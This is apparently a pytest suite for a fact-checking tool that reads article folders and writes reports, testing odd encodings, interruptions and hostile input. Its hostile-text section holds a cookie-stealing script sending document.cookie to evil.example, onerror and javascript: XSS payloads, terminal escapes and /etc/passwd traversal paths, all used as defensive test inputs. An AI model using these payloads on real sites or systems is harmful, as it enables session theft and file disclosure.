"""Nothing lost, nothing crashes: real-world inputs, bad files, interruptions, hostile text.

The end-to-end tests run the command line as a subprocess (exit codes, stderr, the
files it leaves behind). The property tests drive `pipeline.assemble` with generated
per-article results, so they need no model; one fuzz test runs the real spaCy
pipeline on a handful of generated texts.
"""
import codecs
import csv
import hashlib
import html
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import factcheck
from conftest import DEMO, ROOT
from factcheck.claims import PATTERNS, SlotSpec
from factcheck.corpus import Article, Corpus, read_corpus
from factcheck.pipeline import assemble

SEEDS = Path(__file__).resolve().parents[2] / "shared" / "seeds"
OUTPUTS = ("claims.jsonl", "entities.jsonl", "findings.jsonl", "findings.csv", "report.md", "report.html")
# what must never reach a report for people, a terminal or a spreadsheet as a raw character
HIDDEN = {chr(c) for c in [*range(0, 9), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0),
                           *range(0x202A, 0x202F), *range(0x2066, 0x206A)]}


def cli(*args, **popen):
    cmd = [sys.executable, "-m", "factcheck", *map(str, args)]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    if popen:  # Ctrl-C as a terminal gives it, even when this test runner's parent ignores SIGINT
        return subprocess.Popen(cmd, env=env, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL), **popen)
    return subprocess.run(cmd, capture_output=True, text=True, timeout=300, env=env)


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def contradictions(out: Path) -> dict[str, list[set]]:
    """Per slot, the cited (article prefix, value) pairs of each contradiction."""
    found: dict[str, list[set]] = {}
    for f in read_jsonl(out / "findings.jsonl"):
        if f["kind"] == "contradiction":
            found.setdefault(f["slot"], []).append({(c["article"][:3], c["value"]) for c in f["claims"]} | {("subject", f["subject"])})
    return found


# ------------------------------------------------------------- a real-world folder

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>A quiet island mystery | Example Media</title>
<meta property="og:title" content="A quiet island mystery"></head>
<body>
<nav><a href="/">Home</a> | <a href="/tv">TV</a> | <a href="/newsletter">Subscribe to our newsletter</a></nav>
<article>
<h1>A quiet island mystery</h1>
<p>Our critic watched every episode in one weekend and came away impressed by how patiently the story is told.</p>
<p>The lighthouse scenes are the best thing in the first season, and the island setting carries the mood from the first minute to the last.</p>
<p>It is a slow-burn mystery with a strong cast and a story that rewards attention, and the score is unsettling in the best way.</p>
</article>
<footer>Copyright 2024 Example Media. All rights reserved. Privacy policy. Cookie settings.</footer>
</body></html>
"""
NOTES = """---
title: Notes on the island mystery
published: 2024-05-01
url: https://example.org/notes
---
# Notes

The fog rolls in every evening, and the island feels smaller each week. Fans keep asking for more.
"""
FEED = [
    json.dumps({"text": "Feed item one: viewers keep talking about the lighthouse and the fog.\n", "title": "Feed one",
                "published": "2024-06-01", "url": "https://example.org/feed/1"}),
    '{"text": "a line cut short by a bad export',
    json.dumps({"text": "Feed item three: the island, the ferry and the storm, with nothing to check.\n"}),
]


def mixed_corpus(sources: list[Path], dst: Path, sidecar: str = "") -> dict:
    """The articles in `sources` plus the bad and odd files a real folder has.

    The second article is re-encoded as Windows-1252 and the third as UTF-16;
    the returned dict says which, and which warnings must name what.
    """
    dst.mkdir(parents=True)
    for p in sources:
        shutil.copy(p, dst / p.name)
    cp1252, utf16 = sources[1].name, sources[2].name
    (dst / cp1252).write_bytes(sources[1].read_text(encoding="utf-8").encode("cp1252"))
    (dst / utf16).write_bytes(sources[2].read_text(encoding="utf-8").encode("utf-16"))
    (dst / "empty.txt").write_bytes(b"")
    (dst / "junk.txt").write_bytes(bytes(range(256)) * 40)
    broken = sidecar.count("\n") + 1 if sidecar.endswith("\n") or not sidecar else sidecar.count("\n") + 2
    (dst / "sources.jsonl").write_text(sidecar + ("" if sidecar.endswith("\n") or not sidecar else "\n")
                                       + '{"file": "' + cp1252 + '", "title": oops}\n', encoding="utf-8")
    (dst / "notes.md").write_text(NOTES, encoding="utf-8")
    (dst / "page.html").write_text(PAGE, encoding="utf-8")
    (dst / "feed.jsonl").write_text("\n".join(FEED) + "\n", encoding="utf-8")
    return {"cp1252": cp1252, "utf16": utf16, "sources": [p.name for p in sources],
            "named": ["empty.txt", "junk.txt", f"sources.jsonl line {broken}", "feed.jsonl line 2"]}


def warnings_in_reports(out: Path) -> tuple[str, str]:
    md = out.joinpath("report.md").read_text(encoding="utf-8")
    page = out.joinpath("report.html").read_text(encoding="utf-8")
    md_part = md.split("## Warnings", 1)[1] if "## Warnings" in md else ""
    html_part = page.split('<section id="warnings">', 1)[1].split("</section>", 1)[0] if 'id="warnings"' in page else ""
    return md_part.replace("\\", ""), html.unescape(html_part)


def check_mixed_run(corpus: Path, out: Path, r: subprocess.CompletedProcess, planted: dict) -> list[dict]:
    """What every mixed folder must give: exit 3, each bad input named three times, every good input read."""
    assert r.returncode == 3, r.stderr
    md_warnings, html_warnings = warnings_in_reports(out)
    for name in planted["named"]:
        assert name in r.stderr, (name, r.stderr)
        assert name in md_warnings, (name, md_warnings)
        assert name in html_warnings, (name, html_warnings)
    articles = {a.id: a for a in read_corpus(corpus).articles}
    assert set(articles) == set(planted["sources"]) | {"notes.md", "page.html", "feed.jsonl#1", "feed.jsonl#3"}
    for name in planted["sources"]:  # the re-encoded ones too: the very text of the original, so offsets agree
        assert articles[name].text == (corpus.parent / "originals" / name).read_text(encoding="utf-8")
    assert articles["notes.md"].title == "Notes on the island mystery" and articles["notes.md"].published == date(2024, 5, 1)
    page = articles["page.html"].text
    assert "lighthouse scenes" in page and "newsletter" not in page and "Copyright" not in page
    assert articles["feed.jsonl#1"].published == date(2024, 6, 1)
    html_page = out.joinpath("report.html").read_text(encoding="utf-8")
    for a in articles:
        assert f'<tr data-article="{a}">' in html_page, a
    claims = read_jsonl(out / "claims.jsonl")
    for c in claims:
        assert articles[c["article"]].text[c["start"]:c["end"]] == c["value"]
    for name in (planted["cp1252"], planted["utf16"]):
        assert any(c["article"] == name for c in claims), f"no claim read from the re-encoded {name}"
    return claims


def test_mixed_demo_folder_is_read_whole_and_every_bad_file_is_named(tmp_path):
    originals = tmp_path / "originals"
    shutil.copytree(DEMO, originals)
    corpus = tmp_path / "corpus"
    planted = mixed_corpus(sorted(originals.glob("*.txt")), corpus, (DEMO / "sources.jsonl").read_text(encoding="utf-8"))
    out = tmp_path / "out"
    r = cli("scan", corpus, "--out", out, "--cache", tmp_path / "cache.sqlite")
    check_mixed_run(corpus, out, r, planted)
    found = contradictions(out)
    # 001 is the Windows-1252 article, 002 the UTF-16 one: both still take part in the planted disagreements
    assert any({("000", "Blue Reef Pictures"), ("001", "Moonwake Entertainment")} <= f for f in found["production_company"])
    assert any({("000", "10"), ("002", "12")} <= f for f in found["episode_count"])
    assert any({("002", "Park Se-rin")} <= f for f in found["cast_role"])
    assert any({("001", "2025"), ("005", "2026")} <= f for f in found["release_date"])


def test_mixed_seed_folder_still_finds_the_seed_contradictions(tmp_path):
    if not SEEDS.is_dir() or len(list(SEEDS.glob("*.txt"))) < 3:
        pytest.skip("../shared/seeds not present")
    originals = tmp_path / "originals"
    shutil.copytree(SEEDS, originals)
    corpus = tmp_path / "corpus"
    planted = mixed_corpus(sorted(originals.glob("*.txt"))[:3], corpus)
    out = tmp_path / "out"
    r = cli("scan", corpus, "--out", out, "--no-cache")
    check_mixed_run(corpus, out, r, planted)
    found = contradictions(out)
    values = lambda slot: [{v for a, v in f if a != "subject"} | {a for a, v in f} for f in found.get(slot, [])]
    gold = {
        "renewal_status": any("002" in f and ({"000", "001"} & f) for f in values("renewal_status")),
        "release_date": any({"000", "001", "2023"} <= f and any("2024" in v for v in f) for f in values("release_date")),
        "production_company": any({"JTBC Studios", "Kim Jong-hak Production"} <= f for f in values("production_company")),
        "cast_role": any({"On-jo", "Hyo-Kyung"} <= f for f in values("cast_role")),
    }
    assert sum(gold.values()) >= 3, gold


# ------------------------------------------------------------------ interruptions

def loading_modules(pid: int) -> bool:
    """The process has started Python and loads modules from its library (a bare interpreter maps none)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
        return (int(next(line.split()[1] for line in status.splitlines() if line.startswith("SigCgt:")), 16) & 2 != 0
                and "lib-dynload" in Path(f"/proc/{pid}/maps").read_text())
    except (OSError, StopIteration):
        return False


def holds_open(pid: int, path: Path) -> bool:
    try:
        return any(os.readlink(fd) == str(path) for fd in Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return False


def test_ctrl_c_leaves_the_previous_reports_whole_and_the_cache_usable(tmp_path):
    """SIGINT at several moments, down to the write itself: OUT holds the old set or the new set, never a mix."""
    old, new = tmp_path / "old", tmp_path / "new"
    shutil.copytree(DEMO, old)
    shutil.copytree(DEMO, new)
    (new / "003_criticscorner-review-roundup.txt").unlink()
    with (new / "005_nextwave-season-2-filming-brief.txt").open("a", encoding="utf-8") as fh:
        fh.write("\nA late update: the crew added two weeks of night shoots on the island.\n")  # new text: NLP runs again
    out, cache = tmp_path / "out", tmp_path / "cache.sqlite"
    assert cli("scan", old, "--out", out, "--cache", cache).returncode == 0
    before = snapshot(out)
    assert cli("scan", new, "--out", tmp_path / "expected", "--no-cache").returncode == 0
    after = snapshot(tmp_path / "expected")
    assert before != after and set(before) == set(OUTPUTS)

    codes = []
    # states, not delays: "started": Python runs and loads factcheck's modules; "cache": the scan holds the cache
    # open, before the NLP; "write": the first new report is being written beside the old ones; "rename": the
    # first old one was just replaced
    for moment in ("started", "cache", "write", "write", "rename", "rename"):
        shutil.rmtree(out)
        out.mkdir()
        for name, data in before.items():
            out.joinpath(name).write_bytes(data)
        p = cli("scan", new, "--out", out, "--cache", cache, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        inodes = {name: os.stat(out / name).st_ino for name in OUTPUTS}
        reached = {"started": lambda: loading_modules(p.pid),
                   "cache": lambda: holds_open(p.pid, cache),
                   "write": lambda: any(n.endswith(".tmp") for n in os.listdir(out)),
                   "rename": lambda: any(os.stat(out / name).st_ino != ino for name, ino in inodes.items())}
        deadline = time.monotonic() + 240  # a guard against a hang, not a timing
        while p.poll() is None and time.monotonic() < deadline and not reached[moment]():
            time.sleep(0.002)
        if p.poll() is None:
            p.send_signal(signal.SIGINT)
        err = p.communicate(timeout=120)[1]
        codes.append(p.returncode)
        # -SIGINT: the signal came as Python was shutting down after a finished scan (it restores the default handler)
        assert p.returncode in (0, 130, -signal.SIGINT), (moment, p.returncode, err)
        if p.returncode == 130:
            assert err.strip().splitlines()[-1] == "factcheck: interrupted; reports already written are left whole", (moment, err)
            assert "Traceback" not in err and "Error" not in err, (moment, err)
        state = snapshot(out)
        assert sorted(state) == sorted(OUTPUTS), f"stray files after an interrupt at {moment}: {sorted(state)}"
        assert state in (before, after), f"a mix of old and new reports after an interrupt at {moment}"
    assert 130 in codes, codes

    r = cli("scan", new, "--out", tmp_path / "later", "--cache", cache)
    assert r.returncode == 0, r.stderr
    assert "cache" not in r.stderr
    assert snapshot(tmp_path / "later") == after


# ------------------------------------------------------------------- hostile text

LONG_LINE = " ".join(["lighthousekeeperislandmystery"] * 6700)  # about 200,000 characters, no newline
HOSTILE = (
    "The Ninth Tide: <script>alert('title')</script>\n\n"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>\n"
    "The series is produced by **Evil|Corp** <img src=x onerror=alert(1)> and [Moonwake](javascript:alert(1)).\n"
    "| a | b |\n|---|---|\n# Not a heading\n- not a list\n1. not a list either\n=====\n"
    "Control characters: \x1b[31mred\x1b[0m, a bell \x07, a backspace \x08, a NUL \x00 inside UTF-8, and \x9b C1.\n"
    "Right-to-left: \u202etxt.exe\u202c and isolates \u2067abc\u2069 here.\n"
    "The first season has 11 episodes, according to \u202eevil\u202c sources.\n"
    + "Z" * 10_000 + " is one very long token.\n"
    + LONG_LINE + "\n"
    + "Season 2 will be released in 2027, a source said.\n"
)
EVIL_NAME = "evil <img src=x onerror=alert(1)> |*[x](javascript:alert(1)).txt"
TERMINAL_NAME = "bad \x1b[2J\u202e<b>x.txt"


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML document."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text, self.script = [], [], []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.script if self._in_script else self.text).append(data)


def parse_html(text: str) -> Tags:
    t = Tags()
    t.feed(text)
    t.close()
    return t


def check_nothing_interpreted(doc: Tags, allowed: set[str]) -> None:
    assert {tag for tag, _ in doc.tags} <= allowed, {tag for tag, _ in doc.tags} - allowed
    for tag, attrs in doc.tags:
        assert not any(a.lower().startswith("on") for a in attrs), (tag, attrs)
        href = attrs.get("href")
        assert href is None or href.startswith(("#", "https://", "http://")), href
        assert "javascript" not in (attrs.get("src") or "")


def test_hostile_text_and_names_are_shown_never_interpreted(tmp_path):
    corpus, out = tmp_path / "corpus", tmp_path / "out"
    corpus.mkdir()
    for name in ("000_streamscout-everything-we-know.txt", "001_screenledger-lumen-renews-season-2.txt"):
        shutil.copy(DEMO / name, corpus / name)
    (corpus / "hostile.txt").write_bytes(HOSTILE.encode("utf-8"))
    shutil.copy(DEMO / "002_streamwise-where-to-watch.txt", corpus / EVIL_NAME)  # cited in findings under its name
    (corpus / TERMINAL_NAME).write_bytes(b"")  # named in the warnings
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET: the first season has 99 episodes.\n", encoding="utf-8")
    os.symlink(secret, corpus / "linked.txt")
    try:  # a file name that is not UTF-8 (Linux allows it; some file systems do not)
        with open(os.fsencode(corpus) + b"/latin1-\xe9t\xe9.txt", "wb") as fh:
            fh.write((DEMO / "003_criticscorner-review-roundup.txt").read_bytes())
        odd_name = True
    except OSError:
        odd_name = False
    rows = [{"file": "../../etc/passwd", "title": "passwd"}, {"file": "/etc/passwd"},
            {"file": "hostile.txt", "title": "<b>../../evil</b> <img src=x onerror=alert(1)> \u202eRTL\u202c ../report.html",
             "url": "javascript:alert(document.cookie)", "published": "2024-05-01"},
            {"file": "000_streamscout-everything-we-know.txt", "url": 'https://example.com/x" onmouseover="alert(1)', "title": ["not", "text"]},
            {"file": "001_screenledger-lumen-renews-season-2.txt", "title": {"../x": 1}, "published": 20240118}]
    (corpus / "sources.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    outside_before = sorted(str(p) for p in tmp_path.rglob("*"))

    r = cli("scan", corpus, "--out", out, "--cache", tmp_path / "cache.sqlite")

    # finished; only the link and the empty file were skipped
    assert r.returncode == 3, r.stderr
    assert not HIDDEN & set(r.stderr), "control characters reached the terminal"
    assert "linked.txt: skipped, a link to a file outside the corpus" in r.stderr
    assert "../../etc/passwd" in r.stderr and "names no file of the corpus" in r.stderr
    assert "empty file" in r.stderr
    # nothing written outside OUT (and the cache), nothing read outside the corpus
    new = sorted(set(str(p) for p in tmp_path.rglob("*")) - set(outside_before))
    assert all(p.startswith(str(out)) or p.startswith(str(tmp_path / "cache.sqlite")) for p in new), new
    assert sorted(p.name for p in out.iterdir()) == sorted(OUTPUTS)
    texts = {name: out.joinpath(name).read_text(encoding="utf-8") for name in OUTPUTS}  # all valid UTF-8
    for name, text in texts.items():
        assert "TOPSECRET" not in text and "root:x:0:0" not in text, name
    articles = {a.id: a for a in read_corpus(corpus).articles}
    assert {"hostile.txt", EVIL_NAME} <= set(articles)
    assert "\x00" in articles["hostile.txt"].text, "a NUL inside UTF-8 text does not make the article binary"
    if odd_name:
        assert "latin1-\\xe9t\\xe9.txt" in articles
    for c in read_jsonl(out / "claims.jsonl"):
        assert articles[c["article"]].text[c["start"]:c["end"]] == c["value"]

    # HTML: the template's own tags only, article text and names as text
    page = texts["report.html"]
    assert not HIDDEN & set(page)
    templates = ROOT / "factcheck" / "reports" / "templates"
    clean = parse_html("".join((templates / name).read_text(encoding="utf-8") for name in ("report.html.j2", "macros.html.j2")))
    doc = parse_html(page)
    timeline_svg = {"svg", "title", "defs", "marker", "path", "rect", "line", "text", "g", "circle"}  # reports/timeline.py
    check_nothing_interpreted(doc, {tag for tag, _ in clean.tags} | timeline_svg | {"mark", "time", "a", "details", "summary", "tr", "td"})
    assert [tag for tag, _ in doc.tags].count("script") == 1 and "alert" not in "".join(doc.script)
    shown = "".join(doc.text)
    assert EVIL_NAME in shown, "a hostile file name is shown as it is"
    assert "<b>../../evil</b> <img src=x onerror=alert(1)>" in shown, "a hostile title is shown as text"
    assert 'href="javascript' not in page and "onmouseover=" not in page.replace("onmouseover=&#34;", "")

    # Markdown: rendered, it holds no link, image, script or raw HTML but the report's own <details>
    md = texts["report.md"]
    assert not HIDDEN & set(md)
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(md)
    doc = parse_html(rendered)
    check_nothing_interpreted(doc, {"h1", "h2", "h3", "p", "strong", "em", "ul", "li", "code", "table", "thead", "tbody",
                                    "tr", "th", "td", "details", "summary"})
    assert EVIL_NAME in "".join(doc.text)
    for row in rendered.split("<tr>")[2:]:
        assert row.count("<td") in (0, 3), row

    # CSV: one row a finding, every row whole, no cell a formula
    rows = list(csv.reader(io.StringIO(texts["findings.csv"])))
    assert len(rows) == len(read_jsonl(out / "findings.jsonl")) + 1 and {len(r) for r in rows} == {11}
    assert not any(cell[:1] in ("=", "+", "-", "@") for r in rows for cell in r)
    assert not HIDDEN & set(texts["findings.csv"])


def test_bad_metadata_values_and_odd_text_do_not_stop_the_reading(tmp_path):
    (tmp_path / "a.txt").write_text("Harbor Lights season 3 has 8 episodes.\n", encoding="utf-8")
    (tmp_path / "sources.jsonl").write_text(json.dumps({"file": "a.txt", "title": {"x": 1}, "url": ["u"], "published": 5}) + "\n",
                                            encoding="utf-8")
    lines = [{"text": "Season 2 of Harbor Lights premieres on May 2, 2025.", "title": 5, "url": None},
             {"text": "A lone surrogate \ud800 here; Harbor Lights season 3 has 10 episodes.", "title": "\udcff"},
             {"text": 7}, ["not", "an", "object"]]
    (tmp_path / "feed.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    corpus = read_corpus(tmp_path)
    arts = {a.id: a for a in corpus.articles}
    assert arts["a.txt"].title == "Harbor Lights season 3 has 8 episodes." and arts["a.txt"].url is None
    assert arts["feed.jsonl#1"].title == "5"
    assert arts["feed.jsonl#2"].text == "A lone surrogate \ufffd here; Harbor Lights season 3 has 10 episodes."
    assert set(corpus.skipped) == {"feed.jsonl#3", "feed.jsonl#4"}, "an article line that cannot be read makes the run partial"
    assert arts["feed.jsonl#2"].title == "\ufffd"
    factcheck.scan(tmp_path, use_cache=False).write(tmp_path / "out")
    for name in OUTPUTS:
        (tmp_path / "out" / name).read_text(encoding="utf-8")  # written, and valid UTF-8


def test_too_long_articles_reports_inside_the_corpus_and_broken_caches_cost_nothing(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(DEMO / "001_screenledger-lumen-renews-season-2.txt", corpus / "a.txt")
    (corpus / "long.txt").write_text("The island is quiet tonight. " * 40_000, encoding="utf-8")  # 1.16M characters, < 5 MB
    (corpus / "feed.jsonl").write_text(json.dumps({"text": "fog " * 300_000}) + "\n", encoding="utf-8")
    broken = tmp_path / "cache.sqlite"
    broken.write_bytes(b"this is not a database" * 100)
    r = cli("scan", corpus, "--out", corpus / "checks", "--cache", broken)
    assert r.returncode == 3, r.stderr
    assert "long.txt: skipped, too long" in r.stderr and "feed.jsonl#1: skipped, too long" in r.stderr
    assert "cache" in r.stderr and "going on without it" in r.stderr and "Traceback" not in r.stderr
    assert broken.read_bytes() == b"this is not a database" * 100, "a file that is not ours is never overwritten"
    # the reports now sit inside the corpus; the next scan does not read them as articles
    r = cli("scan", corpus, "--out", corpus / "checks", "--cache", tmp_path / "nodir" / "x" / "cache.sqlite")
    assert r.returncode == 3, r.stderr
    assert not [line for line in r.stderr.splitlines() if line.startswith("factcheck:") and "checks/" in line], r.stderr
    assert {a.id for a in read_corpus(corpus).articles} == {"a.txt"}
    # a cache that cannot be created is no reason to fail either
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    r = cli("scan", corpus / "a.txt", "--out", tmp_path / "o2", "--cache", blocker / "cache.sqlite")
    assert r.returncode == 0 and "going on without it" in r.stderr, r.stderr
    umask = os.umask(0o022)
    os.umask(umask)
    mode = (tmp_path / "o2" / "report.html").stat().st_mode & 0o777
    assert mode == 0o666 & ~umask, f"reports get the usual mode, not mkstemp's 0600: {oct(mode)}"


def test_decisions_file_from_any_editor_and_bad_lines_are_survived(tmp_path):
    from factcheck import decisions

    corpus = tmp_path / "c"
    corpus.mkdir()
    path = decisions.path_for(corpus)
    path.write_bytes(codecs.BOM_UTF8 + b'{"id": "co-1", "status": "dismissed", "reason": "caf\xc3\xa9"}\n[1, 2]\n"text"\n{broken\n')
    loaded = decisions.load(corpus)
    assert loaded["co-1"]["reason"] == "café", "a BOM does not lose the first decision"
    decisions.dismiss(corpus, "co-2", "checked")
    assert set(decisions.load(corpus)) == {"co-1", "co-2"}
    path.write_bytes(bytes(range(256)) * 10)
    assert decisions.load(corpus) == {}
    with pytest.raises(ValueError):
        decisions.dismiss(corpus, "co-3", "checked")
    assert path.read_bytes() == bytes(range(256)) * 10, "an unreadable decisions file is never overwritten"


# ------------------------------------------------- properties of the corpus-level stage

SPEC = SlotSpec.load(PATTERNS)
TEMPLATES = {  # slot: (sentence, season); {v} is the value
    "episode_count": ("The first season has {v} episodes.", 1),
    "production_company": ("The series is produced by {v}.", None),
    "release_date": ("Season 2 will be released in {v}.", 2),
    "renewal_status": ("Season 2 has been {v}.", 2),
}
POOLS = {
    "episode_count": ["8", "10", "12"],
    "production_company": ["Blue Reef Pictures", "Moonwake Entertainment", "Studio Haneul"],
    "release_date": ["2025", "March 2026", "2026"],
    "renewal_status": ["renewed", "cancelled", "pending"],
    "cast_role": [(role, actor) for role in ("Eun-chae", "Hae-rim") for actor in ("Go Yu-na", "Park Se-rin")],
}
facts = st.lists(st.sampled_from(sorted(POOLS)).flatmap(lambda s: st.tuples(st.just(s), st.sampled_from(POOLS[s]))),
                 min_size=1, max_size=5)
published = st.sampled_from([None, date(2024, 1, 5), date(2024, 6, 1)])
corpora = st.lists(st.tuples(facts, published), min_size=2, max_size=4)


def raw_article(aid: str, article_facts: list, when: date | None) -> tuple[Article, dict]:
    """An article and its raw per-article result, in the shape `pipeline.doc_result` gives, offsets exact."""
    text = "The Ninth Tide: notes\n\n"
    mentions, claims = [[4, 14, "The Ninth Tide", "NAME"]], []
    for slot, value in article_facts:
        s0 = len(text)
        if slot == "cast_role":
            role, actor = value
            sentence = f"{role} is played by {actor}."
            a0 = s0 + len(role) + len(" is played by ")
            claim = {"value": role, "start": s0, "end": s0 + len(role), "season": None, "actor": actor,
                     "actor_start": a0, "actor_end": a0 + len(actor), "orientation": "explicit"}
            mentions += [[s0, s0 + len(role), role, "PERSON"], [a0, a0 + len(actor), actor, "PERSON"]]
        else:
            template, season = TEMPLATES[slot]
            sentence = template.format(v=value)
            v0 = s0 + template.index("{v}")
            claim = {"value": value, "start": v0, "end": v0 + len(value), "season": season}
            if slot == "production_company":
                mentions.append([v0, v0 + len(value), value, "ORG"])
        text += sentence + "\n"
        claims.append({"slot": slot, "sent_start": s0, "sent_end": s0 + len(sentence), "part": None, "hedge": "asserted",
                       "source": None, "polarity": "positive", "status": value if slot == "renewal_status" else None,
                       "metric": None, "window": None, "owner": None, "group": f"{slot}@{s0}:0"} | claim)
    article = Article(id=aid, text=text, title="The Ninth Tide: notes", published=when,
                      published_source="metadata" if when else None, sha=hashlib.sha256(text.encode()).hexdigest())
    return article, {"mentions": sorted(mentions), "claims": claims}


def run(pairs: list[tuple[Article, dict]]):
    return assemble(Corpus(Path("corpus"), [a for a, _ in pairs]), {a.id: raw for a, raw in pairs}, SPEC)


def finding_set(result, rename=None) -> set:
    rename = rename or {}
    rows = result.findings.to_dict(orient="records") if len(result.findings) else []
    return {(f["kind"], f["subject"], f["slot"], frozenset((rename.get(c["article"], c["article"]), c["value"]) for c in f["claims"]))
            for f in rows}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(corpora, st.randoms(use_true_random=False))
def test_findings_do_not_depend_on_article_order_or_names(spec, rnd):
    pairs = [raw_article(f"a{i}.txt", f, when) for i, (f, when) in enumerate(spec)]
    base = run(pairs)
    order = list(range(len(pairs)))
    rnd.shuffle(order)
    shuffled = run([pairs[i] for i in order])
    assert finding_set(shuffled) == finding_set(base)
    # symmetric: which article is called what does not matter (a says X, b says Y == b says X, a says Y)
    names = {f"a{i}.txt": f"a{order[i]}.txt" for i in range(len(pairs))}
    renamed = run([raw_article(names[f"a{i}.txt"], f, when) for i, (f, when) in enumerate(spec)])
    assert finding_set(renamed, {v: k for k, v in names.items()}) == finding_set(base)
    # the reports are the same bytes whatever the order, and writing twice gives the same bytes
    with tempfile.TemporaryDirectory() as d:
        base.write(Path(d) / "a")
        base.write(Path(d) / "b")
        shuffled.write(Path(d) / "c")
        first = snapshot(Path(d) / "a")
        assert snapshot(Path(d) / "b") == first
        assert snapshot(Path(d) / "c") == first


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(facts, facts)
def test_two_articles_that_disagree_make_one_finding_either_way(left, right):
    a, b = raw_article("a.txt", left, None), raw_article("b.txt", right, None)
    one, other = finding_set(run([a, b])), finding_set(run([b, a]))
    assert one == other
    contradicted = {slot for kind, _, slot, _ in one if kind == "contradiction"}
    for slot in ("episode_count", "renewal_status"):  # plain values: two of them can never both be true
        values = {v for s, v in left + right if s == slot}
        if len(values) > 1:
            assert slot in contradicted, (slot, values, one)


# ------------------------------------------- regressions found by these tests

def test_an_impossible_numeric_date_does_not_stop_the_scan(tmp_path):
    (tmp_path / "a.txt").write_text("Season 2 premiered on 31/02/2024.\n", encoding="utf-8")
    result = factcheck.scan(tmp_path, use_cache=False)
    assert list(result.articles["article"]) == ["a.txt"] and result.skipped == []
    assert result.articles["published"].tolist() == [None], "an impossible date is no publication date"


def test_an_alias_that_is_not_text_is_skipped_with_a_warning(tmp_path):
    (tmp_path / "a.txt").write_text("The first season has 10 episodes.\n", encoding="utf-8")
    (tmp_path / "aliases.jsonl").write_text('{"name": "Go Yu-na", "aliases": [null]}\n{"name": 5, "aliases": ["x"]}\n',
                                            encoding="utf-8")
    result = factcheck.scan(tmp_path, use_cache=False)
    assert any("aliases.jsonl line 1" in w for w in result.warnings)


# ------------------------------------------------------------ fuzzing the real pipeline

wild_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=200)
pieces = st.lists(st.one_of(
    wild_text,
    st.sampled_from(["The first season has 10 episodes.\n", "Season 2 was renewed by Lumen+.\n",
                     "The series is produced by Blue Reef Pictures and Studio Haneul.\n",
                     "Eun-chae (Go Yu-na) returns.\n", "Season 2 will be released in March 2026.\n"]),
    st.integers(1_000, 12_000).map(lambda n: "W" * n),
    st.integers(5_000, 20_000).map(lambda n: ("fog and lighthouse " * n)[:n]),
    st.sampled_from(["\x00", "\u202e", "\x1b[2J", "\r\n", "\r", "\ufeff", "\u2028", "\x85", "\t\t", "  \n\n  "]),
), min_size=1, max_size=6)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(pieces, st.text(st.characters(codec="utf-8"), max_size=30))
def test_fuzz_the_real_pipeline(parts, with_surrogates):
    text = "".join(parts)
    with tempfile.TemporaryDirectory() as d:
        root = Path(d) / "corpus"
        root.mkdir()
        root.joinpath("wild.txt").write_bytes(text.encode("utf-8"))
        # a .jsonl line can hold what no file can: lone surrogates (as JSON escapes) and any control character
        root.joinpath("wild.jsonl").write_text(json.dumps({"text": text + with_surrogates + "\ud83d", "title": with_surrogates}) + "\n",
                                               encoding="utf-8")
        result = factcheck.scan(root, use_cache=False)
        for c in result.claims.itertuples():
            assert result.texts[c.article][c.start:c.end] == c.value
        for e in result.entities.itertuples():
            for m in e.mentions:
                assert result.texts[m["article"]][m["start"]:m["end"]] == m["surface"]
        result.write(Path(d) / "out")
        for name in OUTPUTS:
            Path(d, "out", name).read_text(encoding="utf-8")
